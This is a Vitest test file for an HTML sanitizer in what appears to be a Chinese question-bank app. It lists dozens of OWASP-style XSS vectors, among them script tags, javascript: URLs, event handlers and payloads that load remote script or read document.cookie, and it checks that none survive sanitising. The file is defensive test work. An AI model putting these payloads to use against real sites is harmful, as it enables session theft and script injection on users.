import { describe, expect, it } from 'vitest';
import { htmlToText, isAllowedImageSrc, sanitizeQuestionHtml, textToHtml } from './sanitize';

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

// Classic vectors from the OWASP XSS Filter Evasion Cheat Sheet (and a few mutation-XSS ones).
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="text-align:center; background:url(javascript:alert(1))">x</p>',
  '<span style="xss:expr/*XSS*/ession(alert(\'XSS\'))">x</span>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="&#106;avascript:alert(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<details open ontoggle=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>文字</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<img src=x onerror=alert(1)//>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<base href="javascript:alert(1)//">',
  '<img src="http://evil.example/track.gif">',
  '<img src="//evil.example/x.png">',
  '<img src="/api/files/../../etc/passwd">',
  '<p class="ant-modal-mask" id="root">x</p>',
  '<span style="color:#fff;position:absolute">藏起来的答案</span>',
];

/** Anything that could run or load: script-bearing tags, handlers, URLs other than our images, CSS. */
function executable(out: string): string | null {
  const lower = out.toLowerCase();
  const checks: [RegExp, string][] = [
    [/<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|button|input|frame|frameset|body|details|a|noscript|textarea)\b/, 'tag'],
    [/\son[a-z]+\s*=/, 'handler'],
    [/javascript\s*:/, 'javascript: URL'],
    [/vbscript\s*:/, 'vbscript: URL'],
    [/data:(?!image\/(png|jpeg|gif|webp);base64)/, 'non-image data: URL'],
    [/expression\s*\(|url\s*\(/, 'CSS expression/url'],
    [/\s(background|dynsrc|lowsrc|href|formaction|class|id)\s*=/, 'URL-bearing attribute'],
    [/https?:|\/\/evil/, 'external URL'],
    [/position|color/, 'style other than text-align'],
  ];
  for (const [re, what] of checks) if (re.test(lower)) return what;
  const srcs = [...out.matchAll(/\ssrc="([^"]*)"/g)].map((m) => m[1]);
  if (srcs.some((s) => !isAllowedImageSrc(s))) return 'img src';
  return null;
}

describe('sanitizeQuestionHtml', () => {
  it.each(VECTORS)('nothing executable survives %s', (vector) => {
    const out = sanitizeQuestionHtml(vector);
    expect(executable(out), out).toBeNull();
    // Sanitising is stable: a second pass changes nothing (no mutation-XSS re-parse surprises).
    expect(sanitizeQuestionHtml(out)).toBe(out);
  });

  it('the detector itself catches what it should (so a passing test means something)', () => {
    expect(executable('<img src=x onerror=alert(1)>')).toBe('handler');
    expect(executable('<a href="javascript:x">')).toBe('tag');
    expect(executable('<img src="http://a/b.png">')).toBe('external URL');
  });

  it('keeps legitimate Chinese formatted text unchanged', () => {
    const good = [
      '<p>根据《中华人民共和国民法典》第一千零七十九条，夫妻一方要求离婚的，可以由<strong>有关组织</strong>进行调解。</p>',
      '<p style="text-align:center"><b>第一章　总则</b></p><p>下列说法<u>正确</u>的是：</p><ol><li>甲</li><li>乙</li></ol>',
      '<p>H<sub>2</sub>O 与 x<sup>2</sup>；<em>着重</em>与<i>斜体</i>；<s>删除</s><br />换行</p>',
      '<table><thead><tr><th>期限</th><th>情形</th></tr></thead><tbody><tr><td colspan="2">三年</td></tr></tbody></table>',
      `<p>如图所示：<img src="${PNG}" alt="示意图" width="120" /></p>`,
      '<p><img src="/api/files/42/diagram.png" alt="图" /></p>',
      '<ul><li>一是<span>坚持</span>党的领导</li></ul><blockquote>引文</blockquote>',
    ];
    for (const html of good) expect(sanitizeQuestionHtml(html)).toBe(html);
  });

  it('plain text with angle brackets is escaped, not dropped', () => {
    expect(sanitizeQuestionHtml('3 < 5 且 a&b')).toBe('3 &lt; 5 且 a&amp;b');
  });

  it('drops refused images and unknown styles but keeps the text around them', () => {
    expect(sanitizeQuestionHtml('<p>前<img src="https://cdn.example/x.png">后</p>')).toBe('<p>前后</p>');
    expect(sanitizeQuestionHtml('<p style="color:red;text-align:right">右</p>')).toBe('<p style="text-align:right">右</p>');
    expect(sanitizeQuestionHtml('<div>块<font color=red>红</font></div>')).toBe('块红');
  });
});

describe('isAllowedImageSrc', () => {
  it('allows raster data URIs and our file URLs only', () => {
    expect(isAllowedImageSrc(PNG)).toBe(true);
    expect(isAllowedImageSrc('data:image/webp;base64,AAAA')).toBe(true);
    expect(isAllowedImageSrc('/api/files/9')).toBe(true);
    expect(isAllowedImageSrc('data:image/svg+xml;base64,AAAA')).toBe(false);
    expect(isAllowedImageSrc('data:image/png,<svg>')).toBe(false);
    expect(isAllowedImageSrc('/api/files/../admin')).toBe(false);
    expect(isAllowedImageSrc('/api/users/1')).toBe(false);
    expect(isAllowedImageSrc('https://a.example/x.png')).toBe(false);
  });
});

describe('htmlToText and textToHtml', () => {
  it('extracts the readable text', () => {
    expect(htmlToText('<p>第一段</p><p>第二段&amp;<b>加粗</b></p><script>x()</script>')).toBe('第一段 第二段&加粗');
    expect(htmlToText(`<p>看图<img src="${PNG}">回答</p>`)).toBe('看图 [图片] 回答');
    expect(htmlToText('a<br/>b&nbsp;&lt;c&gt;')).toBe('a b <c>');
  });
  it('turns plain text into safe HTML that round-trips', () => {
    const html = textToHtml('第一行\n<script>第二行</script> & 3');
    expect(html).toBe('第一行<br />&lt;script&gt;第二行&lt;/script&gt; &amp; 3');
    expect(sanitizeQuestionHtml(html)).toBe(html);
    expect(htmlToText(html)).toBe('第一行 <script>第二行</script> & 3');
  });
});
